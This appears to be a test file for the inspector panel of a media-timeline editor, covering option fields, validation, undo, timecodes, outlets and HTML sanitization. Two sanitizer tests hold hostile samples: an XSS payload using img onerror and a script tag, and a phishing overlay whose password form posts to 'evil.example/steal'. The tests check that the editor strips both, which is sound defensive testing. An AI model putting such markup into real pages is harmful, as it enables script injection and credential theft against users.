// @vitest-environment jsdom
import type { OptionSpec } from "@popcorn-kit/core";
import { act, cleanup, fireEvent, screen, within } from "@testing-library/react";
import { afterEach, beforeEach, expect, test, vi } from "vitest";
import { setOptions } from "../../../src/commands/eventCommands.js";
import { CATALOGUE } from "../../../src/plugins/catalogue.js";
import { createProject } from "../../../src/project/createProject.js";
import type { Lane, Outlet } from "../../../src/project/types.js";
import { findEvent } from "../../../src/react/format.js";
import { Inspector } from "../../../src/react/inspector/Inspector.js";
import { defaultOptions } from "../../../src/react/palette/defaults.js";
import { renderPanel } from "../renderEditor.js";

beforeEach(() => {
  vi.useFakeTimers();
});
afterEach(() => {
  cleanup();
  vi.useRealTimers();
});

const SIDEBAR: Outlet = { name: "sidebar", placement: "beside", box: { left: 0, top: 0, width: 100, height: 40 } };
const CAPTION: Outlet = { name: "caption", placement: "over", box: { left: 10, top: 70, width: 80, height: 20 } };
const base = createProject({ media: { duration: 120 }, layout: { outlets: [SIDEBAR, CAPTION] } });

/** One event of each catalogue plugin, 5 s apart, with the palette's defaults (a sketch without its function). */
const everyPlugin: Lane[] = [
  {
    id: "lane-1",
    events: CATALOGUE.map((plugin, i) => ({
      id: `${plugin.name}-1`,
      type: plugin.name,
      start: i * 5,
      end: i * 5 + 4,
      options: defaultOptions(plugin, base),
    })),
  },
];

function renderInspector(events: Lane["events"] = [], select?: string) {
  const rendered = renderPanel(<Inspector />, {
    media: { duration: 120 },
    layout: { outlets: [SIDEBAR, CAPTION] },
    lanes: [{ id: "lane-1", events }],
  });
  if (select) act(() => rendered.editor.select(select));
  return rendered;
}

const options = () => screen.getByRole("region", { name: "Options" });
const wait = (ms: number) => act(() => vi.advanceTimersByTime(ms));

/** The control a field of type `type` must have. */
function expectControl(field: HTMLElement, spec: OptionSpec, name: string) {
  const control = (selector: string) => {
    const found = field.querySelector(selector);
    if (!found) throw new Error(`option "${name}" (${spec.type}): no ${selector}`);
    return found;
  };
  switch (spec.type) {
    case "text":
      control("input[type='text'], textarea");
      break;
    case "html":
      expect(control("[role='textbox'][contenteditable]").getAttribute("aria-multiline")).toBe("true");
      expect(within(field).getByRole("button", { name: "Bold" }).getAttribute("aria-pressed")).toBe("false");
      break;
    case "number":
      control("input[type='number']");
      break;
    case "boolean":
      control("[role='switch']");
      break;
    case "url":
      control("input[type='url']");
      break;
    case "select":
      expect([...control("select").querySelectorAll("option")].map((o) => o.value)).toEqual(
        expect.arrayContaining([...spec.choices]),
      );
      break;
    case "time":
      control("input[type='text']");
      break;
    case "color":
      control("input[type='color']");
      control("input[type='text']");
      break;
    case "target":
      control("select");
      within(field).getByRole("button", { name: "Pick on stage" });
      break;
    case "json":
      control("textarea.pke-input-mono");
      break;
    case "function":
      expect(field.textContent).toContain("Set in code");
      break;
  }
}

test.each(CATALOGUE.map((plugin) => [plugin.name, plugin] as const))(
  "the inspector draws one field per option of %s's manifest, in order, each with the control of its type",
  (name, plugin) => {
    renderInspector(everyPlugin[0]!.events, `${name}-1`);
    const specs = plugin.manifest.options as Record<string, OptionSpec>;
    const fields = [...options().querySelectorAll<HTMLElement>(".pke-field")];
    expect(fields.map((field) => field.querySelector(".pke-field-label")?.textContent)).toEqual(
      Object.entries(specs).map(([key, spec]) => spec.label ?? key.charAt(0).toUpperCase() + key.slice(1)),
    );
    Object.entries(specs).forEach(([key, spec], i) => {
      expectControl(fields[i]!, spec, key);
    });
    expect(screen.getByRole("heading", { level: 2 }).textContent).toBe(plugin.manifest.about?.name);
  },
);

test("an invalid value shows the manifest's error beside the field and changes nothing", () => {
  const lat = { id: "map-1", type: "map", start: 0, end: 4, options: { lat: 10, lng: 20, label: "Harbour" } };
  const { editor } = renderInspector([lat], "map-1");
  const before = editor.getSnapshot().project;
  const field = screen.getByLabelText<HTMLInputElement>("Latitude");
  fireEvent.focus(field);
  fireEvent.change(field, { target: { value: "200" } });
  expect(field.getAttribute("aria-invalid")).toBe("true");
  const message = document.getElementById(field.getAttribute("aria-describedby")!.split(" ")[0]!)?.textContent;
  expect(message).toMatch(/Option "lat" of plugin "map" got 200: expected a number of at most 90/);
  wait(1000);
  fireEvent.blur(field);
  expect(editor.getSnapshot().project).toBe(before);
  // A required text emptied: refused too.
  const label = screen.getByLabelText<HTMLInputElement>("Label");
  fireEvent.change(label, { target: { value: "" } });
  expect(label.getAttribute("aria-invalid")).toBe("true");
  wait(1000);
  expect(editor.getSnapshot().project).toBe(before);
});

test("a valid edit is written after a pause, one undo step for the whole edit; undo updates the field", () => {
  const note = { id: "footnote-1", type: "footnote", start: 0, end: 4, options: { text: "Harbour" } };
  const { editor } = renderInspector([note], "footnote-1");
  const field = screen.getByLabelText<HTMLTextAreaElement>(/^Text/);
  fireEvent.focus(field);
  fireEvent.change(field, { target: { value: "Harbour at" } });
  wait(100);
  expect(findEvent(editor.getSnapshot().project, "footnote-1")?.options.text).toBe("Harbour");
  wait(300);
  expect(findEvent(editor.getSnapshot().project, "footnote-1")?.options.text).toBe("Harbour at");
  fireEvent.change(field, { target: { value: "Harbour at dawn" } });
  wait(300);
  fireEvent.blur(field);
  expect(findEvent(editor.getSnapshot().project, "footnote-1")?.options.text).toBe("Harbour at dawn");
  act(() => {
    editor.undo();
  });
  expect(findEvent(editor.getSnapshot().project, "footnote-1")?.options.text).toBe("Harbour");
  expect(editor.getSnapshot().canUndo).toBe(false);
  expect(field.value).toBe("Harbour");
});

test("a switch and a select write at once", () => {
  const clip = {
    id: "clip-1",
    type: "mediaspawner",
    start: 0,
    end: 4,
    options: { src: "https://example.com/a.mp4", label: "Clip" },
  };
  const { editor } = renderInspector([clip], "clip-1");
  const loop = screen.getByRole("switch", { name: "Loop" });
  expect(loop.getAttribute("aria-checked")).toBe("false");
  fireEvent.click(loop);
  expect(findEvent(editor.getSnapshot().project, "clip-1")?.options.loop).toBe(true);
  expect(loop.getAttribute("aria-checked")).toBe("true");
  fireEvent.change(screen.getByLabelText("Kind"), { target: { value: "audio" } });
  expect(findEvent(editor.getSnapshot().project, "clip-1")?.options.kind).toBe("audio");
});

test("the timecode fields take 1:02.5 and refuse abc", () => {
  const note = { id: "footnote-1", type: "footnote", start: 1, end: 4, options: { text: "Harbour" } };
  const { editor, announced } = renderInspector([note], "footnote-1");
  const end = screen.getByLabelText<HTMLInputElement>("End");
  expect(end.value).toBe("00:04.000");
  fireEvent.change(end, { target: { value: "1:02.5" } });
  fireEvent.keyDown(end, { key: "Enter" });
  expect(findEvent(editor.getSnapshot().project, "footnote-1")?.end).toBe(62.5);
  expect(end.value).toBe("01:02.500");
  expect(announced).toContain("End set to 01:02.500");
  expect(screen.getByText("01:01.500")).toBeTruthy();

  const start = screen.getByLabelText<HTMLInputElement>("Start");
  const before = editor.getSnapshot().project;
  fireEvent.change(start, { target: { value: "abc" } });
  expect(start.getAttribute("aria-invalid")).toBe("true");
  fireEvent.keyDown(start, { key: "Enter" });
  fireEvent.blur(start);
  expect(editor.getSnapshot().project).toBe(before);
  expect(document.getElementById(start.getAttribute("aria-describedby")!)?.textContent).toMatch(/"abc"/);
  // A start after the end is refused with a sentence, not clamped silently.
  fireEvent.change(start, { target: { value: "70" } });
  fireEvent.keyDown(start, { key: "Enter" });
  expect(editor.getSnapshot().project).toBe(before);
  expect(document.getElementById(start.getAttribute("aria-describedby")!)?.textContent).toMatch(/after the end/);
});

test("the rich-text field's markup is sanitized before it reaches the project", () => {
  const text = { id: "text-1", type: "text", start: 0, end: 4, options: { text: "", html: "<p>Old</p>" } };
  const { editor } = renderInspector([text], "text-1");
  const box = screen.getByRole("textbox", { name: /^HTML|^Html/ });
  expect(box.innerHTML).toBe("<p>Old</p>");
  fireEvent.focus(box);
  box.innerHTML = '<b>Lisbon</b><img src="x" onerror="alert(1)"><script>alert(2)</script>';
  fireEvent.input(box);
  wait(300);
  fireEvent.blur(box);
  const html = String(findEvent(editor.getSnapshot().project, "text-1")?.options.html);
  expect(html).toContain("<b>Lisbon</b>");
  expect(html).not.toMatch(/onerror|script/i);
});

test("an imported event's html shows and is written with the strict profile of files: no overlay, no form, no remote request", () => {
  const phishing =
    '<div style="position:fixed;inset:0;z-index:2147483647">Session expired<form action="https://evil.example/steal">' +
    '<input type="password" name="p"><button>Sign in</button></form><img src="https://evil.example/t.png"></div>';
  const imported = {
    id: "text-1",
    type: "text",
    start: 0,
    end: 4,
    options: { text: "", html: phishing },
    origin: "file" as const,
  };
  const own = {
    id: "text-2",
    type: "text",
    start: 5,
    end: 9,
    options: { text: "", html: '<p style="color: red">Mine</p>' },
  };
  const { editor } = renderInspector([imported, own], "text-1");
  const box = screen.getByRole("textbox", { name: /^HTML|^Html/ });
  expect(box.querySelector("form, input, button, [style], img[src]")).toBeNull();
  expect(box.textContent).toContain("Session expired");
  // An edit writes what the strict profile keeps; the event stays one from a file.
  fireEvent.focus(box);
  box.innerHTML = `<b>Edited</b>${phishing}`;
  fireEvent.input(box);
  wait(300);
  fireEvent.blur(box);
  const written = findEvent(editor.getSnapshot().project, "text-1");
  expect(written?.options.html).toMatch(/^<b>Edited<\/b>/);
  expect(String(written?.options.html)).not.toMatch(/style|form|input|evil\.example/);
  expect(written?.origin).toBe("file");
  // The editor's own html keeps the page's profile: its style stays.
  act(() => editor.select("text-2"));
  expect(screen.getByRole("textbox", { name: /^HTML|^Html/ }).innerHTML).toBe('<p style="color: red">Mine</p>');
});

test("the target select lists the layout's outlets and In place; Pick on stage sets the stage mode", () => {
  const note = { id: "footnote-1", type: "footnote", start: 0, end: 4, options: { text: "Harbour" } };
  const { editor, ui } = renderInspector([note], "footnote-1");
  const select = screen.getByLabelText<HTMLSelectElement>("Target");
  expect([...select.options].map((o) => o.textContent)).toEqual(["In place", "sidebar", "caption"]);
  fireEvent.change(select, { target: { value: "caption" } });
  expect(findEvent(editor.getSnapshot().project, "footnote-1")?.options.target).toBe("caption");
  fireEvent.change(select, { target: { value: "" } });
  expect(findEvent(editor.getSnapshot().project, "footnote-1")?.options.target).toBeUndefined();
  const pick = screen.getByRole("button", { name: "Pick on stage" });
  fireEvent.click(pick);
  expect(ui.view.getSnapshot().stageMode).toBe("pick-target");
  expect(pick.getAttribute("aria-pressed")).toBe("true");
  // The stage sets the target and goes back to preview: the select shows it.
  act(() => {
    editor.run(setOptions("footnote-1", { target: "sidebar" }));
    ui.view.set({ stageMode: "preview" });
  });
  expect(select.value).toBe("sidebar");
  expect(pick.getAttribute("aria-pressed")).toBe("false");
});

test("with nothing selected the inspector shows the project's details; the description is written on blur", () => {
  const { editor } = renderInspector();
  expect(screen.getByText("30 fps")).toBeTruthy();
  const description = screen.getByLabelText<HTMLTextAreaElement>("Description");
  fireEvent.change(description, { target: { value: "Boats at dawn" } });
  fireEvent.blur(description);
  expect(editor.getSnapshot().project.meta.description).toBe("Boats at dawn");
  const language = screen.getByLabelText<HTMLInputElement>("Language");
  fireEvent.change(language, { target: { value: "not a tag!" } });
  fireEvent.blur(language);
  expect(editor.getSnapshot().project.meta.language).toBe("en");
  expect(language.getAttribute("aria-invalid")).toBe("true");
});

test("several events selected: their count and one Delete", () => {
  const events = [0, 5, 10].map((start) => ({
    id: `n${start}`,
    type: "footnote",
    start,
    end: start + 2,
    options: { text: "x" },
  }));
  const { editor } = renderInspector(events);
  act(() => editor.selectAll());
  expect(screen.getByRole("heading", { name: "3 events selected" })).toBeTruthy();
  fireEvent.click(screen.getByRole("button", { name: "Delete 3 events" }));
  expect(editor.getSnapshot().project.lanes[0]?.events).toHaveLength(0);
});

test("in layout mode the outlet form changes the placement, renames (retargeting events) and removes", () => {
  const note = {
    id: "footnote-1",
    type: "footnote",
    start: 0,
    end: 4,
    options: { text: "Harbour", target: "sidebar" },
  };
  const { editor, ui } = renderInspector([note]);
  act(() => ui.view.set({ stageMode: "layout", selectedOutlet: "sidebar" }));
  expect(screen.getByRole("radio", { name: "Beside" }).getAttribute("aria-checked")).toBe("true");
  fireEvent.click(screen.getByRole("radio", { name: "Below" }));
  expect(editor.getSnapshot().project.layout.outlets[0]?.placement).toBe("below");
  expect(screen.getByRole("radio", { name: "Below" }).getAttribute("aria-checked")).toBe("true");
  expect(screen.getByRole("button", { name: 'Footnote "Harbour"' })).toBeTruthy();

  const width = screen.getByLabelText<HTMLInputElement>("Width");
  fireEvent.change(width, { target: { value: "150" } });
  fireEvent.blur(width);
  expect(width.getAttribute("aria-invalid")).toBe("true");
  expect(editor.getSnapshot().project.layout.outlets[0]?.box.width).toBe(100);

  const name = screen.getByLabelText<HTMLInputElement>("Name");
  fireEvent.change(name, { target: { value: "notes" } });
  fireEvent.keyDown(name, { key: "Enter" });
  expect(findEvent(editor.getSnapshot().project, "footnote-1")?.options.target).toBe("notes");
  expect(ui.view.getSnapshot().selectedOutlet).toBe("notes");

  fireEvent.click(screen.getByRole("button", { name: "Remove outlet" }));
  expect(editor.getSnapshot().project.layout.outlets.map((o) => o.name)).toEqual(["caption"]);
});
